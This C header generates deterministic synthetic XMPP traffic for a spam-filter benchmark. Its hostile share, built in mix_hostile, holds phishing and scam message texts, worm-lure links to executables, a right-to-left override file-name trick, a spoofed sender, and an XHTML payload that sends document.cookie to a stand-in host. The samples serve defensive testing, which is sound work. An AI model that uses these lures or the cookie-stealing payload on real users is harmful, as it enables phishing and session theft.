/*
 * stanzamix.h - the benchmarks' deterministic stanza mix (header only)
 *
 * Purpose
 *	bench/xmload, bench/expat-baseline and bench/xmpp-load must measure
 *	the same traffic, so they all build it here: a seeded generator of
 *	XMPP events (envelope lines, an empty line, one stanza) shaped like a
 *	busy public server's c2s and s2s traffic:
 *
 *	    ~57%  one-to-one chat: 1-600 words (most under ten), with chat
 *	          states, receipts and origin-id as modern clients send them;
 *	          English, German, Russian, Chinese and emoji text
 *	     9%   chat with an ordinary https link
 *	     4%   XHTML-IM rich text (a link in half of them)
 *	     6%   groupchat messages (s2s from a MUC service)
 *	     7%   bodyless chat states (composing/paused)
 *	     5%   subscription presences (subscribe, subscribed, ...)
 *	     3%   file-transfer iqs: SI offers, Jingle session-initiate,
 *	          IBB open and data, OOB
 *	     2.5% transport (legacy network component) chat
 *	    ~6.5% hostile: worm lures with raw-IP or executable links,
 *	          password phishing, gift and crypto scams, bot reports,
 *	          protocol-handler floods, emoticon floods, bidi tricks,
 *	          rich text with script, spoofed from
 *
 *	The hostile share is far above real traffic on purpose: it makes
 *	every kind of rule (body, uri, header, jid, meta) and the guard
 *	filter fire, so the verdict counts prove they ran.
 *
 * Interface
 *	mix_generate(n, seed) returns N items; every item has the event text
 *	(without a time= line: the load generator stamps it at send time) and
 *	a pointer to the stanza inside it. mix_free releases them. The same
 *	seed always gives the same bytes.
 *
 * Ownership
 *	Everything is heap memory owned by the returned struct mix.
 */
#ifndef XM_BENCH_STANZAMIX_H
#define XM_BENCH_STANZAMIX_H

#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* every helper may go unused in one of the programs */
#define MIX_FN static inline __attribute__((unused))

enum mix_class {
	MIX_CHAT = 0,
	MIX_CHAT_LINK,
	MIX_XHTML,
	MIX_GROUPCHAT,
	MIX_CHATSTATE,
	MIX_SUBSCRIPTION,
	MIX_FILE,
	MIX_TRANSPORT,
	MIX_HOSTILE,
	MIX_NCLASSES
};

static const char *const mix_class_names[MIX_NCLASSES] = {
	"chat", "chat+link", "xhtml-im", "groupchat", "chat-state",
	"subscription", "file-transfer", "transport", "hostile",
};

struct mix_item {
	enum mix_class cls;
	char *event;          /* envelope, empty line, stanza; NUL-terminated */
	size_t event_len;
	const char *stanza;   /* inside event */
	size_t stanza_len;
	char *body;           /* the chat text (NULL when none): for xmpp-load */
};

struct mix {
	struct mix_item *items;
	size_t n;
	size_t class_count[MIX_NCLASSES];
	size_t stanza_bytes, event_bytes;
};

/* ---- a small seeded generator (splitmix64) ---- */

struct mix_rng {
	uint64_t s;
};

/* mix_rand - next 64 random bits */
MIX_FN uint64_t
mix_rand(struct mix_rng *r)
{
	uint64_t z = (r->s += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* mix_below - uniform in [0, n) */
MIX_FN unsigned
mix_below(struct mix_rng *r, unsigned n)
{
	return (unsigned)(mix_rand(r) % n);
}

/* mix_pick - one string of a NULL-less array */
#define MIX_PICK(r, arr) ((arr)[mix_below((r), sizeof(arr) / sizeof((arr)[0]))])

/* ---- a growing string ---- */

struct mix_str {
	char *p;
	size_t len, cap;
};

/* mix_cat - append formatted text */
MIX_FN void __attribute__((format(printf, 2, 3)))
mix_cat(struct mix_str *s, const char *fmt, ...)
{
	va_list ap;
	int n;

	for (;;) {
		va_start(ap, fmt);
		n = vsnprintf(s->p ? s->p + s->len : NULL,
		    s->p ? s->cap - s->len : 0, fmt, ap);
		va_end(ap);
		if (n < 0)
			abort();
		if (s->p && s->len + (size_t)n < s->cap) {
			s->len += (size_t)n;
			return;
		}
		s->cap = (s->cap + (size_t)n + 1) * 2;
		if ((s->p = realloc(s->p, s->cap)) == NULL)
			abort();
		s->p[s->len] = '\0';
	}
}

/* mix_cat_escaped - append text escaped for XML */
MIX_FN void
mix_cat_escaped(struct mix_str *s, const char *t)
{
	for (; *t; t++) {
		switch (*t) {
		case '<': mix_cat(s, "&lt;"); break;
		case '>': mix_cat(s, "&gt;"); break;
		case '&': mix_cat(s, "&amp;"); break;
		case '\'': mix_cat(s, "&apos;"); break;
		case '"': mix_cat(s, "&quot;"); break;
		default: mix_cat(s, "%c", *t); break;
		}
	}
}

/* ---- vocabulary ---- */

static const char *const mix_words_en[] = {
	"the", "be", "to", "of", "and", "a", "in", "that", "have", "I", "it",
	"for", "not", "on", "with", "he", "as", "you", "do", "at", "this",
	"but", "his", "by", "from", "they", "we", "say", "her", "she", "or",
	"an", "will", "my", "one", "all", "would", "there", "their", "what",
	"so", "up", "out", "if", "about", "who", "get", "which", "go", "me",
	"when", "make", "can", "like", "time", "no", "just", "him", "know",
	"take", "people", "into", "year", "your", "good", "some", "could",
	"them", "see", "other", "than", "then", "now", "look", "only", "come",
	"its", "over", "think", "also", "back", "after", "use", "two", "how",
	"our", "work", "first", "well", "way", "even", "new", "want", "because",
	"any", "these", "give", "day", "most", "us", "ok", "lol", "yeah",
	"thanks", "meeting", "tomorrow", "tonight", "lunch", "build", "deploy",
	"server", "release", "ticket", "merge", "review", "branch", "coffee",
	"later", "sure", "sorry", "haha", "weekend", "call", "online", "busy",
	"test", "logs", "patch", "config", "restart", "done", "fixed", "bug",
};

static const char *const mix_words_intl[] = {
	"Grüße", "schön", "Straße", "müssen", "Tschüss", "привет", "спасибо",
	"завтра", "хорошо", "сообщение", "你好", "谢谢", "明天见", "没问题",
	"こんにちは", "ありがとう", "¡hola!", "café", "naïve", "Zürich",
	"\xf0\x9f\x98\x82", "\xf0\x9f\x91\x8d", "\xe2\x9d\xa4\xef\xb8\x8f",
	"\xf0\x9f\x8e\x89", "\xf0\x9f\x99\x82", ":)", ";-)", ":D", "<3",
};

static const char *const mix_users[] = {
	"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
	"ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert",
	"sybil", "trent", "victor", "walter", "yolanda", "zoe", "aaron",
	"beatrix", "cedric", "dmitri", "elena", "farid", "gunther", "hana",
	"ingrid", "jun", "kalinda",
};

static const char *const mix_domains[] = {
	"example.org", "example.org", "example.org", "chat.example.net",
	"jabber.example.com", "im.example.de", "xmpp.example.ru",
};

static const char *const mix_resources[] = {
	"Conversations.a1B2", "gajim.X9YZ", "dino.4f2c", "Monal-iOS.77aa",
	"Psi+.desk", "laptop", "phone", "profanity.q1",
};

static const char *const mix_link_hosts[] = {
	"www.example.com", "docs.example.org", "git.example.net",
	"news.example.co.uk", "video.example.tv", "shop.example.de",
	"en.wikipedia.example", "maps.example.com", "blog.example.io",
};

static const char *const mix_link_paths[] = {
	"", "/", "/index.html", "/watch?v=dQw4w9WgXcQ", "/wiki/Extensible_Messaging_and_Presence_Protocol",
	"/issues/4711", "/merge_requests/128#note_99", "/2026/11/22/release-notes",
	"/search?q=xmpp+spam+filter&lang=en", "/products/12345?ref=chat",
};

static const char *const mix_file_names[] = {
	"holiday.jpg", "report-Q3.pdf", "IMG_20261122_101500.jpg",
	"slides.odp", "notes.txt", "build.log.gz", "song.ogg", "scan0042.png",
};

/* mix_words - append N words of chat text (mostly English) */
MIX_FN void
mix_words(struct mix_rng *r, struct mix_str *s, unsigned n)
{
	unsigned i;

	for (i = 0; i < n; i++) {
		const char *w = mix_below(r, 12) == 0 ? MIX_PICK(r, mix_words_intl)
		    : MIX_PICK(r, mix_words_en);

		mix_cat(s, "%s%s", i ? (mix_below(r, 17) == 0 ? ". " : " ") : "", w);
	}
	if (mix_below(r, 3) == 0)
		mix_cat(s, "%s", mix_below(r, 2) ? "?" : ".");
}

/* mix_nwords - a chat-like length: mostly short, a long tail */
MIX_FN unsigned
mix_nwords(struct mix_rng *r)
{
	unsigned p = mix_below(r, 100);

	if (p < 60)
		return 1 + mix_below(r, 8);
	if (p < 90)
		return 8 + mix_below(r, 23);
	if (p < 99)
		return 30 + mix_below(r, 91);
	return 200 + mix_below(r, 401);
}

/* mix_jid - a user's bare JID on a domain */
MIX_FN void
mix_jid(struct mix_rng *r, char *out, size_t len, const char *dom)
{
	snprintf(out, len, "%s%u@%s", MIX_PICK(r, mix_users), mix_below(r, 100),
	    dom ? dom : MIX_PICK(r, mix_domains));
}

/* mix_id - a client-made stanza id */
MIX_FN void
mix_id(struct mix_rng *r, char *out, size_t len)
{
	snprintf(out, len, "%08llx-%04x-%04x",
	    (unsigned long long)(mix_rand(r) & 0xffffffffULL),
	    mix_below(r, 65536), mix_below(r, 65536));
}

/* mix_envelope - envelope lines for a c2s (or other) sender */
MIX_FN void
mix_envelope(struct mix_rng *r, struct mix_str *e, const char *origin,
    const char *auth, const char *peer, const char *roster, long age)
{
	mix_cat(e, "origin=%s\n", origin);
	if (peer)
		mix_cat(e, "peer=%s\n", peer);
	if (strcmp(origin, "c2s") == 0) {
		mix_cat(e, "ip=%u.%u.%u.%u\n", 192 + mix_below(r, 2) * 6,
		    mix_below(r, 2) ? 51 : 0, mix_below(r, 2) ? 100 : 2,
		    1 + mix_below(r, 250));
		mix_cat(e, "auth=%s\n", auth);
		mix_cat(e, "tls=yes\n");
		if (age >= 0)
			mix_cat(e, "account-age=%ld\n", age);
	} else if (strcmp(origin, "s2s") == 0) {
		mix_cat(e, "ip=203.0.113.%u\n", 1 + mix_below(r, 250));
		mix_cat(e, "tls=yes\n");
	}
	mix_cat(e, "roster=%s\n\n", roster);
}

/* mix_chat_extras - what modern clients put next to a body */
MIX_FN void
mix_chat_extras(struct mix_rng *r, struct mix_str *s, const char *id)
{
	mix_cat(s, "<active xmlns='http://jabber.org/protocol/chatstates'/>");
	if (mix_below(r, 4) != 0)
		mix_cat(s, "<request xmlns='urn:xmpp:receipts'/>"
		    "<markable xmlns='urn:xmpp:chat-markers:0'/>");
	if (mix_below(r, 2) == 0)
		mix_cat(s, "<origin-id xmlns='urn:xmpp:sid:0' id='%s'/>", id);
}

/* mix_message - a chat (or other) message with BODY and optional rich text */
MIX_FN void
mix_message(struct mix_rng *r, struct mix_str *s, const char *from,
    const char *to, const char *type, const char *body, const char *xhtml)
{
	char id[40];

	mix_id(r, id, sizeof(id));
	mix_cat(s, "<message xmlns='jabber:client' from='%s' to='%s' type='%s' "
	    "id='%s'", from, to, type, id);
	if (mix_below(r, 3) == 0)
		mix_cat(s, " xml:lang='en'");
	mix_cat(s, "><body>");
	mix_cat_escaped(s, body);
	mix_cat(s, "</body>");
	if (xhtml)
		mix_cat(s, "<html xmlns='http://jabber.org/protocol/xhtml-im'>"
		    "<body xmlns='http://www.w3.org/1999/xhtml'>%s</body></html>",
		    xhtml);
	if (strcmp(type, "chat") == 0)
		mix_chat_extras(r, s, id);
	mix_cat(s, "</message>");
}

/* mix_link - an ordinary https link */
MIX_FN void
mix_link(struct mix_rng *r, struct mix_str *s)
{
	mix_cat(s, "https://%s%s", MIX_PICK(r, mix_link_hosts),
	    MIX_PICK(r, mix_link_paths));
}

/* ---- hostile messages ---- */

static const char *const mix_lures[] = {
	"is this really you in this photo?", "hey, is that you??",
	"lol u look funny in this pic", "check out my new pics",
	"look at my holiday photos", "omg is it you on that video",
	"see my private album", "haha photo of you",
};

static const char *const mix_phish[] = {
	"Hello, this is the server admin. Your account will be suspended "
	    "today. Please reply with your password to verify your account.",
	"Support team here: we detected a login problem, send us your "
	    "password so we can restore your account.",
	"Your jabber account has been locked. Verify your account here: ",
	"hi, can you tell me your 2fa code? i sent it to you by mistake",
};

static const char *const mix_scams[] = {
	"FREE NITRO!!! claim your free discord nitro gift now ",
	"Steam gift for you, get your free steam gift card: ",
	"Elon giveaway: send 1 BTC to the address below and get it back "
	    "doubled within an hour! ",
	"crypto investment, guaranteed 300% profit in 24 hours, join now ",
};

/* mix_hostile - one of the hostile shapes: envelope and stanza into E, text into B */
MIX_FN void
mix_hostile(struct mix_rng *r, struct mix_str *e, struct mix_str *b,
    const char *to)
{
	char from[96], full[160];
	unsigned k = mix_below(r, 13), i;
	struct mix_str x = { 0 };

	mix_jid(r, from, sizeof(from), "example.org");
	snprintf(full, sizeof(full), "%s/%s", from, MIX_PICK(r, mix_resources));
	switch (k) {
	case 0: case 1: case 2:
		/* worm lure with a raw IP on an odd port or an executable */
		mix_cat(b, "%s ", MIX_PICK(r, mix_lures));
		if (k == 0)
			mix_cat(b, "http://%u.%u.%u.%u:%u/photo%u.php", 23 +
			    mix_below(r, 150), mix_below(r, 256), mix_below(r,
			    256), 1 + mix_below(r, 254), 1025 + mix_below(r,
			    60000), mix_below(r, 100));
		else if (k == 1)
			mix_cat(b, "http://files.example-cdn.top/img/IMG_%u.jpg.exe",
			    mix_below(r, 9999));
		else
			mix_cat(b, "http://%u.%u.%u.%u/pics/album.scr", 23 +
			    mix_below(r, 150), mix_below(r, 256),
			    mix_below(r, 256), 1 + mix_below(r, 254));
		break;
	case 3: case 4:
		mix_cat(b, "%s", MIX_PICK(r, mix_phish));
		if (mix_below(r, 2))
			mix_cat(b, " https://login-example.org.verify-account.example/");
		break;
	case 5: case 6:
		mix_cat(b, "%shttps://bit.ly/%x", MIX_PICK(r, mix_scams),
		    (unsigned)mix_rand(r));
		break;
	case 7:
		mix_cat(b, "bot online ip: %u.%u.%u.%u ports: 3389,445 os=win10 "
		    "user=admin", 23 + mix_below(r, 150), mix_below(r, 256),
		    mix_below(r, 256), 1 + mix_below(r, 254));
		break;
	case 8:
		for (i = 0; i < 6; i++)
			mix_cat(b, "ymsgr:sendim?user%u aim:goim?screenname=x%u "
			    "msnim:chat?contact=y%u@example.com ", i, i, i);
		break;
	case 9:
		for (i = 0; i < 80; i++)
			mix_cat(b, "%s", i % 2 ? ":-) " : "\xf0\x9f\x98\x82");
		break;
	case 10:
		/* the right-to-left override file name trick */
		mix_cat(b, "here is the invoice: invoice_\xe2\x80\xae" "exe.pdf "
		    "http://%u.%u.%u.%u:8081/get", 23 + mix_below(r, 150),
		    mix_below(r, 256), mix_below(r, 256), 1 + mix_below(r, 254));
		break;
	case 11:
		/* rich text with script and a javascript: link */
		mix_cat(b, "click here for the photos");
		mix_cat(&x, "<p>click <a href='javascript:fetch(&apos;//x.example/"
		    "&apos;+document.cookie)' onclick='steal()'>here</a> for "
		    "the photos</p><img src='http://%u.%u.%u.%u:8888/t.gif'/>",
		    23 + mix_below(r, 150), mix_below(r, 256), mix_below(r, 256),
		    1 + mix_below(r, 254));
		break;
	default:
		/* a from that does not match the session: spoofed */
		mix_cat(b, "hi, it's me, add me back please");
		mix_envelope(r, e, "c2s", from, NULL, "none", 3600);
		mix_message(r, e, "admin@example.org/console", to, "chat",
		    b->p, NULL);
		return;
	}
	mix_envelope(r, e, "c2s", from, NULL, "none",
	    (long)mix_below(r, 7200));
	mix_message(r, e, full, to, "chat", b->p, x.p);
	free(x.p);
}

/* ---- file transfer offers ---- */

/* mix_file - an SI, Jingle, IBB or OOB iq */
MIX_FN void
mix_file(struct mix_rng *r, struct mix_str *s, const char *from,
    const char *to)
{
	char id[40];
	const char *name = MIX_PICK(r, mix_file_names);
	unsigned k = mix_below(r, 10), i;

	mix_id(r, id, sizeof(id));
	mix_cat(s, "<iq xmlns='jabber:client' from='%s' to='%s' type='set' "
	    "id='%s'>", from, to, id);
	if (k < 4) {
		mix_cat(s, "<si xmlns='http://jabber.org/protocol/si' id='s%x' "
		    "mime-type='application/octet-stream' profile='http://"
		    "jabber.org/protocol/si/profile/file-transfer'><file xmlns="
		    "'http://jabber.org/protocol/si/profile/file-transfer' "
		    "name='%s' size='%u' hash='%016llx%016llx'><desc>%s</desc>"
		    "</file><feature xmlns='http://jabber.org/protocol/feature-neg'>"
		    "<x xmlns='jabber:x:data' type='form'><field var='stream-"
		    "method' type='list-single'><option><value>http://jabber.org/"
		    "protocol/bytestreams</value></option><option><value>http://"
		    "jabber.org/protocol/ibb</value></option></field></x>"
		    "</feature></si>", (unsigned)mix_rand(r), name,
		    1000 + mix_below(r, 5000000),
		    (unsigned long long)mix_rand(r),
		    (unsigned long long)mix_rand(r), "as promised");
	} else if (k < 7) {
		mix_cat(s, "<jingle xmlns='urn:xmpp:jingle:1' action='session-"
		    "initiate' initiator='%s' sid='j%x'><content creator='"
		    "initiator' name='a-file-offer' senders='initiator'>"
		    "<description xmlns='urn:xmpp:jingle:apps:file-transfer:5'>"
		    "<file><media-type>application/octet-stream</media-type>"
		    "<name>%s</name><size>%u</size><hash xmlns='urn:xmpp:hashes:2' "
		    "algo='sha-256'>%016llx%016llx</hash></file></description>"
		    "<transport xmlns='urn:xmpp:jingle:transports:s5b:1' sid='t%x' "
		    "dstaddr='%016llx'><candidate cid='c1' host='192.0.2.%u' "
		    "jid='%s' port='%u' priority='8257536' type='direct'/>"
		    "</transport></content></jingle>", from,
		    (unsigned)mix_rand(r), name, 1000 + mix_below(r, 5000000),
		    (unsigned long long)mix_rand(r),
		    (unsigned long long)mix_rand(r), (unsigned)mix_rand(r),
		    (unsigned long long)mix_rand(r), 1 + mix_below(r, 250), from,
		    1024 + mix_below(r, 60000));
	} else if (k < 8) {
		mix_cat(s, "<open xmlns='http://jabber.org/protocol/ibb' "
		    "block-size='4096' sid='i%x' stanza='iq'/>",
		    (unsigned)mix_rand(r));
	} else if (k < 9) {
		static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"
		    "ghijklmnopqrstuvwxyz0123456789+/";

		mix_cat(s, "<data xmlns='http://jabber.org/protocol/ibb' seq='%u' "
		    "sid='i%x'>", mix_below(r, 50), (unsigned)mix_rand(r));
		for (i = 0; i < 1368; i++)   /* a 1 KiB block, base64 */
			mix_cat(s, "%c", b64[mix_below(r, 64)]);
		mix_cat(s, "</data>");
	} else {
		mix_cat(s, "<query xmlns='jabber:iq:oob'><url>https://%s/files/"
		    "%s</url><desc>here you go</desc></query>",
		    MIX_PICK(r, mix_link_hosts), name);
	}
	mix_cat(s, "</iq>");
}

/* ---- one item ---- */

/* mix_one - build item IT with generator R */
MIX_FN void
mix_one(struct mix_rng *r, struct mix_item *it)
{
	struct mix_str e = { 0 }, b = { 0 }, x = { 0 };
	char from[96], to[96], full[160], tofull[160];
	unsigned p = mix_below(r, 1000);
	const char *dom = MIX_PICK(r, mix_domains);
	size_t hdr;

	mix_jid(r, from, sizeof(from), "example.org");
	mix_jid(r, to, sizeof(to), dom);
	snprintf(full, sizeof(full), "%s/%s", from, MIX_PICK(r, mix_resources));
	snprintf(tofull, sizeof(tofull), "%s/%s", to, MIX_PICK(r, mix_resources));

	if (p < 570) {
		it->cls = MIX_CHAT;
		mix_words(r, &b, mix_nwords(r));
		mix_envelope(r, &e, "c2s", from, NULL, "both", 86400L *
		    (long)(1 + mix_below(r, 2000)));
		mix_message(r, &e, full, mix_below(r, 2) ? to : tofull, "chat",
		    b.p, NULL);
	} else if (p < 660) {
		it->cls = MIX_CHAT_LINK;
		mix_words(r, &b, 1 + mix_below(r, 12));
		mix_cat(&b, " ");
		mix_link(r, &b);
		if (mix_below(r, 3) == 0) {
			mix_cat(&b, " ");
			mix_words(r, &b, 1 + mix_below(r, 6));
		}
		mix_envelope(r, &e, "c2s", from, NULL, "both", 86400L *
		    (long)(1 + mix_below(r, 2000)));
		mix_message(r, &e, full, to, "chat", b.p, NULL);
	} else if (p < 700) {
		struct mix_str w = { 0 }, l = { 0 }, we = { 0 }, le = { 0 };

		it->cls = MIX_XHTML;
		mix_words(r, &w, 3 + mix_below(r, 20));
		mix_cat_escaped(&we, w.p);
		if (mix_below(r, 2)) {
			mix_link(r, &l);
			mix_cat_escaped(&le, l.p);
			mix_cat(&b, "%s %s", w.p, l.p);
			mix_cat(&x, "<p>%s <a href='%s'>link</a></p>", we.p, le.p);
		} else {
			mix_cat(&b, "%s", w.p);
			mix_cat(&x, "<p><strong>%s</strong> <span style='color:"
			    "#c00'>%s</span></p>", "note:", we.p);
		}
		free(w.p);
		free(l.p);
		free(we.p);
		free(le.p);
		mix_envelope(r, &e, "c2s", from, NULL, "both", 86400L * 30);
		mix_message(r, &e, full, tofull, "chat", b.p, x.p);
	} else if (p < 760) {
		char room[96], occ[160];

		it->cls = MIX_GROUPCHAT;
		snprintf(room, sizeof(room), "room%u@conference.example.net",
		    mix_below(r, 20));
		snprintf(occ, sizeof(occ), "%s/%s", room, MIX_PICK(r, mix_users));
		mix_words(r, &b, mix_nwords(r));
		mix_envelope(r, &e, "s2s", NULL, "conference.example.net",
		    "none", -1);
		mix_message(r, &e, occ, tofull, "groupchat", b.p, NULL);
	} else if (p < 830) {
		char id[40];

		it->cls = MIX_CHATSTATE;
		mix_id(r, id, sizeof(id));
		mix_envelope(r, &e, "c2s", from, NULL, "both", 86400L * 100);
		mix_cat(&e, "<message xmlns='jabber:client' from='%s' to='%s' "
		    "type='chat' id='%s'><%s xmlns='http://jabber.org/protocol/"
		    "chatstates'/><no-store xmlns='urn:xmpp:hints'/></message>",
		    full, to, id, mix_below(r, 3) ? "composing" : "paused");
	} else if (p < 880) {
		static const char *const types[] = { "subscribe", "subscribe",
		    "subscribed", "unsubscribe", "unsubscribed" };
		char id[40];
		const char *t = MIX_PICK(r, types);

		it->cls = MIX_SUBSCRIPTION;
		mix_id(r, id, sizeof(id));
		mix_envelope(r, &e, "c2s", from, NULL, "none", 86400L *
		    (long)mix_below(r, 300));
		mix_cat(&e, "<presence xmlns='jabber:client' from='%s' to='%s' "
		    "type='%s' id='%s'>", from, to, t, id);
		if (strcmp(t, "subscribe") == 0 && mix_below(r, 2))
			mix_cat(&e, "<nick xmlns='http://jabber.org/protocol/nick'>"
			    "%s</nick><status>Hi, please add me!</status>",
			    MIX_PICK(r, mix_users));
		mix_cat(&e, "</presence>");
	} else if (p < 910) {
		it->cls = MIX_FILE;
		mix_envelope(r, &e, "c2s", from, NULL, "both", 86400L * 400);
		mix_file(r, &e, full, tofull);
	} else if (p < 935) {
		char tfrom[96];

		it->cls = MIX_TRANSPORT;
		snprintf(tfrom, sizeof(tfrom), "%u@icq.example.org/icq",
		    100000 + mix_below(r, 900000));
		mix_words(r, &b, mix_nwords(r));
		mix_envelope(r, &e, "component", NULL, "icq.example.org", "both",
		    -1);
		mix_message(r, &e, tfrom, to, "chat", b.p, NULL);
	} else {
		it->cls = MIX_HOSTILE;
		mix_hostile(r, &e, &b, to);
	}
	hdr = (size_t)(strstr(e.p, "\n\n") - e.p) + 2;
	it->event = e.p;
	it->event_len = e.len;
	it->stanza = e.p + hdr;
	it->stanza_len = e.len - hdr;
	it->body = b.p;
	free(x.p);
}

/* mix_generate - N items from SEED (the same seed, the same bytes) */
MIX_FN struct mix *
mix_generate(size_t n, uint64_t seed)
{
	struct mix *m = calloc(1, sizeof(*m));
	struct mix_rng r = { seed };
	size_t i;

	if (m == NULL || (m->items = calloc(n, sizeof(*m->items))) == NULL)
		abort();
	m->n = n;
	for (i = 0; i < n; i++) {
		mix_one(&r, &m->items[i]);
		m->class_count[m->items[i].cls]++;
		m->stanza_bytes += m->items[i].stanza_len;
		m->event_bytes += m->items[i].event_len;
	}
	return m;
}

/* mix_free - release M */
MIX_FN void
mix_free(struct mix *m)
{
	size_t i;

	if (m == NULL)
		return;
	for (i = 0; i < m->n; i++) {
		free(m->items[i].event);
		free(m->items[i].body);
	}
	free(m->items);
	free(m);
}

/* mix_describe - one line about the mix on FP */
MIX_FN void
mix_describe(const struct mix *m, FILE *fp)
{
	int c;

	fprintf(fp, "mix: items=%zu avg_stanza=%.0fB avg_event=%.0fB",
	    m->n, (double)m->stanza_bytes / (double)m->n,
	    (double)m->event_bytes / (double)m->n);
	for (c = 0; c < MIX_NCLASSES; c++)
		fprintf(fp, " %s=%.1f%%", mix_class_names[c],
		    100.0 * (double)m->class_count[c] / (double)m->n);
	fputc('\n', fp);
}

#endif
